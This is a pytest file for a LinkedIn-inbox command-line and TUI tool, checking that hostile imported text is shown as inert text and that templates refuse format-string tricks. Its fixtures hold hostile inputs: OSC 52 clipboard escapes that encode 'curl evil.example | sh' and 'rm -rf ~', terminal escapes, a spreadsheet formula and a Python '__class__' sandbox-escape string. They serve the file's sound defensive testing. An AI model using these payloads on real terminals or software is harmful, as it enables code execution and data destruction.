"""Hostile text: strangers' names, headlines and notes are shown as inert text everywhere.

Rich markup, terminal escape sequences (OSC 52 clipboard writes, OSC 0 title changes, CSI screen
clears), bidi overrides, zero-width characters, NUL, combining marks, lone surrogates and very long
notes go in through the importers and must come out of the store, the command line, the exports
and every widget of the TUI as plain text: no control character ever reaches the terminal.
Templates are plain substitution: no attribute access, indexing, format specs or conversions.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import fresh_folders
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from textual.pilot import Pilot
from tui_helpers import notifications, screen_strips, screen_text, until_still, wait_until

from linkinbox import templates
from linkinbox.cli import main
from linkinbox.errors import TemplateError
from linkinbox.inbox import Inbox
from linkinbox.models import Status
from linkinbox.store import Query
from linkinbox.text import clean_text, one_line
from linkinbox.tui.app import LinkinboxApp
from linkinbox.tui.screens.confirm import ConfirmScreen
from linkinbox.tui.screens.editor import TemplateEditor
from linkinbox.tui.screens.inbox import InboxScreen
from linkinbox.tui.screens.messages import MessagesScreen

SIZE = (120, 40)
ADMIN = "[bold red]ADMIN[/bold red]"

# Characters that must never be shown: C0 controls but newline (tabs become spaces), DEL, C1
# controls (ESC and the 8-bit CSI among them), bidi marks/overrides/isolates, zero-width
# characters, the BOM, invisible tag characters and lone surrogates.
UNSAFE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069"
    "\ud800-\udfff\ufeff\U000e0000-\U000e007f]"
)
# What Textual itself writes around the text: colours/attributes and cursor moves.
TEXTUAL_SEQUENCES = re.compile(r"\x1b\[[0-9;:]*m|\x1b\[\d+;\d+H|\x1b\[\?\d+[hl]")

NASTY: dict[str, str] = {
    "rich markup": ADMIN,
    "rich close tag": "[/] [/bold] [/link]",
    "rich link": "[link=https://evil.example/steal]click me[/link]",
    "textual variables": "[$accent on $error]x[/] $primary",
    "osc 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07Kim",
    "osc 52 with st": "\x1b]52;c;cm0gLXJmIH4=\x1b\\Lee",
    "osc 0 title": "\x1b]0;You have been hacked\x07Ann",
    "osc 8 hyperlink": "\x1b]8;;https://evil.example\x1b\\Bob\x1b]8;;\x1b\\",
    "csi clear screen": "\x1b[2J\x1b[HCleared",
    "csi colours": "\x1b[31;1mRed\x1b[0m",
    "c1 csi": "\x9b2J\x9b31mEight-bit",
    "dcs": "\x1bP+q544e\x1b\\Dcs",
    "unterminated osc": "Tail\x1b]0;never ends",
    "lone escape": "Esc\x1b",
    "bidi override": "\u202eNaN ,nitsuJ\u202c",
    "bidi isolates": "\u2066Rtl\u2069 \u2067x\u2069 \u2068y\u2069",
    "arabic letter mark": "Ali\u061c",
    "zero width": "Ze\u200bro\u200cWi\u200ddth\u2060\ufeff",
    "nul and bell": "Nul\x00Bell\x07Back\x08space",
    "carriage return overwrite": "Safe Name\rEVIL NAME",
    "form feed and vertical tab": "Form\x0cFeed\x0bTab",
    "delete": "Del\x7fete",
    "combining marks": "Zalgo" + "\u0301\u0316\u0334" * 100,
    "ten thousand characters": "Long " + "x" * 10_000,
    "newlines": "Line one\nLine two\r\nLine three",
    "unicode separators": "Para\u2028graph\u2029Sep",
    "lone surrogate": "Sur\ud800rogate",
    "tag characters": "Tag\U000e0049\U000e0047\U000e004e\U000e004f\U000e0052\U000e0045",
    "spreadsheet formula": '=HYPERLINK("https://evil.example","Click")',
    "template braces": "{first_name} {__class__} {{ }} {0}",
    "emoji and cjk": "👩‍💻 山田太郎 Søren Ækerlund-Nuñez",
}


# A zero-width joiner between two emoji is part of one picture (👩‍💻): kept on purpose (#15).
EMOJI_JOINER = re.compile(
    "(?<=[\U0001f000-\U0001faff\ufe0f])\u200d(?=[\U0001f000-\U0001faff\u2600-\u27bf])"
)


def unsafe(text: str) -> list[str]:
    return sorted({repr(ch) for ch in UNSAFE.findall(EMOJI_JOINER.sub("", text))})


def assert_clean(text: str, where: str) -> None:
    found = unsafe(text)
    assert not found, f"{where} holds control/invisible characters {found}: {text[:200]!r}"


# --- the cleaning itself -------------------------------------------------------------------------


@pytest.mark.parametrize("label", NASTY)
def test_cleaning_leaves_only_inert_text(label: str) -> None:
    nasty = NASTY[label]
    for cleaned in (clean_text(nasty), one_line(nasty), one_line(nasty, limit=40)):
        assert_clean(cleaned, label)
        assert "\x1b" not in cleaned and "]52;" not in cleaned and "]0;" not in cleaned
    assert "\n" not in one_line(nasty)
    assert len(one_line(nasty, limit=40)) <= 40


def test_cleaning_keeps_what_people_wrote() -> None:
    assert one_line(ADMIN) == ADMIN  # markup is text: shown literally, never interpreted
    assert one_line(NASTY["osc 0 title"]) == "Ann"
    assert one_line(NASTY["csi clear screen"]) == "Cleared"
    assert one_line(NASTY["bidi override"]) == "NaN ,nitsuJ"
    assert one_line(NASTY["carriage return overwrite"]) == "Safe Name EVIL NAME"
    assert clean_text(NASTY["newlines"]) == "Line one\nLine two\nLine three"
    assert clean_text(NASTY["unicode separators"]) == "Para\ngraph\nSep"
    assert one_line(NASTY["lone surrogate"]) == "Surrogate"
    assert one_line(NASTY["tag characters"]) == "Tag"
    assert one_line(NASTY["emoji and cjk"]) == NASTY["emoji and cjk"]  # 👩‍💻 stays one


@settings(max_examples=500, deadline=None)
@given(text=st.text(st.characters(exclude_categories=())), limit=st.integers(2, 80))
def test_fuzz_cleaning_any_text(text: str, limit: int) -> None:
    for cleaned in (clean_text(text), one_line(text), one_line(text, limit=limit)):
        assert_clean(cleaned, "cleaned text")
        assert cleaned == cleaned.strip()
        assert clean_text(cleaned) == cleaned  # cleaning twice changes nothing more
    assert "\n" not in one_line(text) and "  " not in one_line(text)
    assert len(one_line(text, limit=limit)) <= limit


# --- import → store → command line and exports --------------------------------------------------


def nasty_items() -> list[dict[str, Any]]:
    """One request per nasty string, in every text field of linkinbox's own JSON format."""
    items: list[dict[str, Any]] = []
    for number, nasty in enumerate(NASTY.values()):
        items.append(
            {
                "name": nasty if nasty == ADMIN else f"N{number:02d} {nasty}",
                "headline": nasty,
                "location": nasty,
                "company": nasty,
                "message": nasty,
                "profile_url": f"https://www.linkedin.com/in/nasty-{number:02d}",
                # The markup name is the newest: first in the list and in every question.
                "sent_at": f"2026-06-{13 if nasty == ADMIN else 1 + number % 12:02d}T08:00:00",
                "mutual_connections": 3,
                "source": nasty,
            }
        )
    items.append(
        {
            "name": "Outgoing \x1b]0;title\x07[b]Sent[/b]",
            "headline": "\x1b[2J" + ADMIN,
            "status": "sent",
            "sent_at": "2026-05-01T08:00:00",
        }
    )
    return items


def write_nasty_json(folder: Path) -> Path:
    path = folder / "nasty.json"
    # ensure_ascii keeps the lone surrogate representable (as a \ud800 escape), as a hostile
    # file could.
    path.write_text(json.dumps(nasty_items(), ensure_ascii=True), encoding="utf-8")
    return path


def write_nasty_invitations(folder: Path) -> Path:
    path = folder / "Invitations.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(
        ["From", "To", "Sent At", "Message", "Direction", "inviterProfileUrl", "inviteeProfileUrl"]
    )
    for number, nasty in enumerate(NASTY.values()):
        writer.writerow(
            [
                f"C{number:02d} {nasty}",
                "Dana Whitfield",
                "6/12/26, 8:03 AM",
                nasty,
                "INCOMING",
                f"https://www.linkedin.com/in/csv-{number:02d}",
                "",
            ]
        )
    path.write_bytes(buffer.getvalue().encode("utf-8", "surrogatepass"))
    return path


def cli(*args: str) -> tuple[int, str, str]:
    """Run the command line in this process, returning (status, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def test_nasty_text_is_inert_in_every_command(tmp_path: Path) -> None:
    config = Path(os.environ["LINKINBOX_CONFIG_DIR"])
    config.mkdir(parents=True, exist_ok=True)  # replies need the user's profile URL
    (config / "config.toml").write_text(
        'my_profile_url = "https://www.linkedin.com/in/dana"\n', encoding="utf-8"
    )
    code, out, err = cli("import", str(write_nasty_json(tmp_path)))
    assert code == 0, err
    assert f"{len(NASTY)} added" in out
    code, out, err = cli("import", str(write_nasty_invitations(tmp_path)))
    assert code == 0, err
    assert f"{len(NASTY)} added" in out

    code, out, err = cli("list", "--status", "all", "--json")
    assert code == 0
    items = json.loads(out)
    assert len(items) == 2 * len(NASTY) + 1
    for item in items:
        for key, value in item.items():
            if isinstance(value, str):
                assert_clean(value, f"list --json {key}")
    names = {item["name"] for item in items}
    assert ADMIN in names  # literally: never interpreted as markup
    assert "N03 [$accent on $error]x[/] $primary" in names
    assert "N06 Ann" in names and "C06 Ann" in names  # the title change is gone, the name stays
    long_note = next(i for i in items if i["name"].startswith("N23"))["message"]
    assert long_note.startswith("Long xxxx") and len(long_note) <= 10_000

    admin_id = next(item["id"] for item in items if item["name"] == ADMIN)
    outputs = [
        cli("list"),
        cli("list", "--status", "all"),
        cli("reply", str(admin_id)),
        cli("decide", str(admin_id), "decline"),
        cli("list", "--status", "decline"),
        cli("undo"),
        cli("stats"),
        cli("stats", "--json"),
        cli("export", "--format", "csv"),
        cli("export", "--format", "json"),
    ]
    for code, out, err in outputs:
        assert code == 0, err
        assert_clean(out.replace("\n", " "), "stdout")
        assert_clean(err.replace("\n", " "), "stderr")
    listed = outputs[0][1]
    assert ADMIN in listed
    assert outputs[3][1].startswith(f"{admin_id}: {ADMIN} → decline.")

    exported = list(csv.DictReader(io.StringIO(outputs[8][1])))
    formula = next(row for row in exported if row["name"].startswith("N28"))
    assert formula["headline"].startswith("'=HYPERLINK(")  # a spreadsheet shows it as text


# --- the TUI ----------------------------------------------------------------------------------------


def terminal_output(app: LinkinboxApp) -> str:
    """What Textual would write to the terminal for the current screen (a full repaint)."""
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    assert update is not None
    return str(update.render_segments(app.console))  # type: ignore[union-attr]


def assert_inert(app: LinkinboxApp, where: str) -> None:
    """Every segment every widget renders is plain text, and so is the terminal stream."""
    for y, strip in enumerate(screen_strips(app)):
        for segment in strip:
            assert segment.control is None, f"{where}: a control segment on line {y}"
            assert_clean(segment.text, f"{where}, line {y}")
    stream = TEXTUAL_SEQUENCES.sub("", terminal_output(app))
    assert "\x1b" not in stream, f"{where}: {stream[stream.index(chr(27)) - 40 :][:120]!r}"
    assert_clean(stream, f"{where} (terminal stream)")


def rule_config(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "config.toml").write_text(
        'my_name = "Dana [b]Whitfield[/b]"\n'
        'my_profile_url = "https://www.linkedin.com/in/dana"\n'
        '[[rules]]\nname = "everyone"\nmax_mutual = 1000\nsuggest = "decline"\n',
        encoding="utf-8",
    )


async def settle(pilot: Pilot[int]) -> None:
    """What the last key did is drawn (two pauses were a guess from CPU time, wrong under load:
    the profile pane could still show the request before)."""
    await until_still(pilot)


async def wait_for(pilot: Pilot[int], condition: Callable[[], bool]) -> None:
    await wait_until(pilot, condition)
    await settle(pilot)


def test_tui_shows_nasty_text_inert_in_every_widget_and_toast(tmp_path: Path) -> None:
    rule_config(Path(os.environ["LINKINBOX_CONFIG_DIR"]))
    inbox = Inbox()
    inbox.import_paths([write_nasty_json(tmp_path)])
    admin = inbox.find("nasty-00")
    assert admin.name == ADMIN
    admin_index = inbox.index_of(Query(), admin.id)
    assert admin_index is not None

    async def scenario() -> None:
        app = LinkinboxApp(inbox)
        async with app.run_test(size=SIZE, notifications=True) as pilot:
            await settle(pilot)
            assert isinstance(app.screen, InboxScreen)
            assert_inert(app, "the inbox")
            for index in range(inbox.pending_count()):
                assert_inert(app, f"request {index}")
                await pilot.press("j")
            await pilot.press("g", *["j"] * admin_index)
            await settle(pilot)
            screen = app.screen
            assert isinstance(screen, InboxScreen)
            assert screen.current is not None and screen.current.id == admin.id
            shown = screen_text(app)
            assert shown.count(ADMIN) >= 3, shown  # list row, profile name, headline
            assert_inert(app, "the ADMIN request")

            await pilot.press("d")
            await settle(pilot)
            assert f"Declined {ADMIN}. u undoes; y copies the reply to them." in notifications(app)
            assert f"Declined {ADMIN}" in screen_text(app)  # the toast, literally
            assert_inert(app, "the decision toast")
            await pilot.press("u")
            await settle(pilot)
            assert f"Restored {ADMIN} to pending." in notifications(app)
            assert_inert(app, "the undo toast")

            for key in ("y", "o", "right", "right"):
                await pilot.press(key)
                await settle(pilot)
                assert_inert(app, f"after {key}")
            assert any(
                n.startswith(f"Copied the decline reply for {ADMIN}") for n in notifications(app)
            )

            await pilot.press("r")
            await wait_for(pilot, lambda: isinstance(app.screen, TemplateEditor))
            assert f"preview for {ADMIN}" in screen_text(app)
            assert_inert(app, "the template editor")
            await pilot.press("escape")
            await settle(pilot)

            await pilot.press("slash", *"[bold")
            await wait_for(pilot, lambda: screen.request_list.query_spec.text == "[bold")
            assert "[bold" in screen_text(app)
            assert_inert(app, "the filter")
            await pilot.press("escape")
            await settle(pilot)

            # Screening goes on in the background once the keys stop.
            await wait_for(pilot, lambda: not inbox.needs_screening())
            screen.action_apply_suggestions()
            await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen))
            assert ADMIN in screen_text(app)
            assert_inert(app, "the apply-suggestions question")
            await pilot.press("y")  # written off the UI thread: wait for it
            await wait_for(
                pilot,
                lambda: inbox.get(admin.id).status == Status.DECLINE,  # type: ignore[union-attr]
            )
            await settle(pilot)

            for key, where in (("3", "the decided view"), ("2", "the sent view"), ("S", "stats")):
                await pilot.press(key)
                await settle(pilot)
                assert_inert(app, where)
                for _ in range(3):
                    await pilot.press("j")
                    await settle(pilot)
                    assert_inert(app, where)
            await pilot.press("escape")
            await settle(pilot)
            assert "<svg" in app.export_screenshot()

    try:
        asyncio.run(scenario())
    finally:
        inbox.close()


def _startup_toast(theme: str) -> tuple[list[str], str, LinkinboxApp]:
    config = Path(os.environ["LINKINBOX_CONFIG_DIR"])
    config.mkdir(parents=True, exist_ok=True)
    (config / "config.toml").write_text(f"theme = {json.dumps(theme)}\n", encoding="utf-8")
    result: list[tuple[list[str], str, LinkinboxApp]] = []

    async def scenario(inbox: Inbox) -> None:
        app = LinkinboxApp(inbox)
        async with app.run_test(size=SIZE, notifications=True) as pilot:
            await wait_for(pilot, lambda: isinstance(app.screen, MessagesScreen))
            said = [m.text for m in app.message_log.entries]
            result.append((said, screen_text(app), app))
            with contextlib.suppress(AssertionError):
                assert_inert(app, "the startup warning")
                result.append(([], "inert", app))

    with Inbox() as inbox:
        asyncio.run(scenario(inbox))
    (messages, text, app), *inert = result
    return messages, text if not inert else text + "\n<inert>", app


def test_startup_problems_in_toasts_are_not_markup() -> None:
    messages, text, _ = _startup_toast(ADMIN)
    assert any(f"no theme named “{ADMIN}”" in m for m in messages), messages
    shown = " ".join(text.replace("│", " ").split())  # the message's lines, wrapped at spaces
    assert ADMIN in shown  # the message shows the brackets: not markup
    assert text.endswith("<inert>")


def test_escape_sequence_in_a_config_value_never_reaches_the_terminal() -> None:
    messages, text, _ = _startup_toast("dusk\x1b]0;You have been hacked\x07\x1b[2J")
    assert any("no theme named" in m for m in messages), messages
    assert text.endswith("<inert>"), text


def test_escape_sequence_in_a_file_name_never_reaches_the_terminal(tmp_path: Path) -> None:
    hostile = tmp_path / "invite\x1b]0;You have been hacked\x07\x1b[2J\nsecond line.csv"
    hostile.write_text("not,a,linkedin,file\n1,2,3,4\n", encoding="utf-8")
    code, out, err = cli("import", str(hostile))
    assert code == 2
    assert err.count("\n") == 1 and "invite" in err
    assert_clean(err.replace("\n", " ") + out, "stderr")


# --- property: arbitrary text through import → store → commands → TUI ---------------------------

PIECES = (
    "\x1b]52;c;SGVsbG8=\x07",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "\x1b[31m",
    "\x1b",
    "\x9b",
    "\x85",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\x00",
    "\u0301",
    "[bold]",
    "[/]",
    "[link=https://x]",
    "[$accent]",
    "\r",
    "\n",
    "\t",
    "\ud800",
    "\U000e0041",
    "{first_name}",
    "=",
    "\\",
    '"',
    ",",
)
hostile_text = st.lists(
    st.one_of(st.characters(exclude_categories=()), st.sampled_from(PIECES)), max_size=40
).map("".join)


def own_json(root: Path, text: str) -> Path:
    path = root / "list.json"
    item = {
        "name": "Hy " + text,
        "headline": text,
        "location": text,
        "company": text,
        "message": text,
        "reply": text,
        "source": text,
        "profile_url": "https://www.linkedin.com/in/hypo-json",
    }
    path.write_text(json.dumps([item], ensure_ascii=True), encoding="utf-8")
    return path


def invitations_csv(root: Path, text: str) -> Path:
    path = root / "Invitations.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(
        ["From", "To", "Sent At", "Message", "Direction", "inviterProfileUrl", "inviteeProfileUrl"]
    )
    writer.writerow(
        [text, "Me", "6/12/26, 8:03 AM", text, "INCOMING", "https://linkedin.com/in/hypo-csv", ""]
    )
    path.write_bytes(buffer.getvalue().encode("utf-8", "surrogatepass"))
    return path


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(text=hostile_text)
def test_any_text_imports_and_comes_out_inert(text: str) -> None:
    with fresh_folders() as root:
        for source in (own_json(root, text), invitations_csv(root, text)):
            code, out, err = cli("import", str(source))
            assert code in (0, 2), err
            if code == 2:  # refused as a whole: one clear line, nothing else
                assert err.count("\n") == 1 and err.startswith("linkinbox: ")
            assert_clean(out.replace("\n", " "), "import's output")
            assert_clean(err.replace("\n", " "), "import's messages")
        code, out, _ = cli("list", "--status", "all", "--json")
        assert code == 0
        for item in json.loads(out):
            for key, value in item.items():
                if isinstance(value, str):
                    assert_clean(value, key)
                    assert "\n" not in value or key in ("message", "reply"), key
        for args in (("list", "--status", "all"), ("export",), ("export", "--format", "json")):
            code, out, err = cli(*args)
            assert code == 0, err
            assert_clean(out.replace("\n", " "), " ".join(args))


async def _render_request(inbox: Inbox) -> None:
    app = LinkinboxApp(inbox)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        assert_inert(app, "the inbox")
        await pilot.press("d")
        await settle(pilot)
        assert_inert(app, "after a decision")
        await pilot.press("u", "y", "3")
        await settle(pilot)
        assert_inert(app, "after undo, copy and the decided view")


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(text=hostile_text)
def test_any_text_renders_inert_in_the_tui(text: str) -> None:
    with fresh_folders() as root, Inbox() as inbox:
        inbox.import_paths([own_json(root, text)])
        assert inbox.pending_count() == 1
        asyncio.run(_render_request(inbox))


# --- templates ------------------------------------------------------------------------------------

FORBIDDEN_SUFFIXES = (
    ".__class__",
    ".__class__.__mro__[1].__subclasses__()",
    "[0]",
    "['x']",
    ":>999999999",
    ":,",
    "!r",
    "!s:>5",
    ".upper",
    "()",
)


@pytest.mark.parametrize("suffix", FORBIDDEN_SUFFIXES)
@pytest.mark.parametrize("name", templates.PLACEHOLDERS)
def test_template_refuses_python_formatting(name: str, suffix: str) -> None:
    # Refused, not padded to a billion characters (how fast: benchmarks/inprocess.py).
    with pytest.raises(TemplateError, match=r"not allowed|unknown placeholder"):
        templates.render("Hi {" + name + suffix + "}!", dict.fromkeys(templates.PLACEHOLDERS, "x"))


@settings(max_examples=300, deadline=None)
@given(
    name=st.sampled_from(templates.PLACEHOLDERS),
    marker=st.sampled_from(".[]!:()"),
    rest=st.text(alphabet=st.characters(exclude_characters="{}"), max_size=20),
)
def test_fuzz_placeholder_with_access_or_format_is_refused(
    name: str, marker: str, rest: str
) -> None:
    body = "Hello {" + name + marker + rest + "}"
    with pytest.raises(TemplateError):
        templates.parse(body)
    with pytest.raises(TemplateError):
        templates.render(body, {name: "x"})


LITERAL = st.text(
    alphabet=st.characters(exclude_characters="{}", exclude_categories=()), max_size=8
)
PIECE = st.one_of(
    LITERAL.map(lambda s: (s, s)),
    st.just(("{{", "{")),
    st.just(("}}", "}")),
    st.sampled_from(templates.PLACEHOLDERS).map(lambda p: ("{" + p + "}", f"<{p}>")),
)


@settings(max_examples=300, deadline=None)
@given(pieces=st.lists(PIECE, max_size=30))
def test_fuzz_render_is_plain_substitution(pieces: list[tuple[str, str]]) -> None:
    body = "".join(source for source, _ in pieces)
    expected = "".join(result for _, result in pieces)
    values = {p: f"<{p}>" for p in templates.PLACEHOLDERS}
    # Substitution, then the one cleaning every text on its way out gets: nothing else.
    assert templates.render(body, values) == clean_text(expected)


@settings(max_examples=300, deadline=None)
@given(body=st.text(max_size=60), value=hostile_text)
def test_fuzz_any_body_renders_or_is_a_clear_error(body: str, value: str) -> None:
    values = dict.fromkeys(templates.PLACEHOLDERS, value)
    try:
        rendered = templates.render(body, values)
    except TemplateError as error:
        message = str(error)
        assert message.startswith("line ") and "\n" not in message
        return
    # Whatever renders is the body's text with the values dropped in: nothing is evaluated.
    assert "__class__" not in rendered or "__class__" in body + value
    assert "<class" not in rendered or "<class" in body + value


def test_values_are_never_parsed_again() -> None:
    values = dict.fromkeys(templates.PLACEHOLDERS, "")
    values["first_name"] = "{my_name.__class__} {{ [bold]x[/bold] {0:>99999}"
    values["my_name"] = "SECRET"
    assert templates.render("Hi {first_name}!", values) == (
        "Hi {my_name.__class__} {{ [bold]x[/bold] {0:>99999}!"
    )


def test_a_megabyte_body_renders_every_placeholder() -> None:
    """How long it takes (linear in the size) is measured by benchmarks/inprocess.py."""
    values = {p: p.upper() for p in templates.PLACEHOLDERS}
    unit = "Hi {first_name} {last_name}, {{literal}} thanks: {my_profile_url}\n" + "word " * 8
    half = unit * (512 * 1024 // len(unit))
    full = half + half
    assert len(full) >= 1_000_000
    rendered = templates.render(full, values)
    assert rendered.count("FIRST_NAME") == full.count("{first_name}")
    assert "{literal}" in rendered and "{first_name}" not in rendered


def test_huge_unclosed_or_nested_braces_are_refused() -> None:
    """How fast: benchmarks/inprocess.py."""
    for body in ("{" + "a" * 1_000_000, "{" * 1_000_001, "}" * 999_999, "{first_name" * 100_000):
        with pytest.raises(TemplateError):
            templates.parse(body)
